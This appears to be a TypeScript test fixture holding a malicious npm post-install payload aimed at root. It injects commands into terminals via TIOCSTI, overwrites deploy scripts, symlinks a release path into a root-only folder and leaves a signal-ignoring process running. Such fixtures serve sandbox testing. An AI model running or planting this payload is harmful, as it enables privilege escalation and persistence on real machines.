// A package whose install script attacks root: it looks for a terminal, changes files that root runs and reads
// later, and leaves a program running.

/** A folder of root's on the machine. Nothing in it may change. */
export const roots = '/root/of-root-only'

/** Prints the terminals that it finds, and types a command into each. */
export const look = `my @found;
for my $file (*STDIN, *STDOUT, *STDERR) { push @found, fileno $file if -t $file }
open(my $own, '+<', '/dev/tty') and push @found, '/dev/tty';
print "found: @found\\n";
for my $file ($own, *STDIN) { next unless $file; for (split //, "touch /root/owned\\n") { my $sign = $_; ioctl($file, 0x5412, $sign) } }
`

/** Prepended to the script that npm runs after installing packages. */
export const badPackage = `const { execFileSync, spawn } = require('node:child_process')
const files = require('node:fs')
execFileSync('perl', ['-e', ${JSON.stringify(look)}], { stdio: 'inherit' })
for (const name of ['activate', 'rehearse', 'release.sh'])
  files.writeFileSync('deploy/parts/' + name, '#!/bin/sh\\ntouch /root/owned\\n', { mode: 0o755 })
files.rmSync('RELEASE', { force: true })
files.symlinkSync('${roots}/kept', 'RELEASE')
spawn('sh', ['-c', 'trap "" TERM HUP; while sleep 1; do :; done'], { detached: true, stdio: 'ignore' }).unref()
`
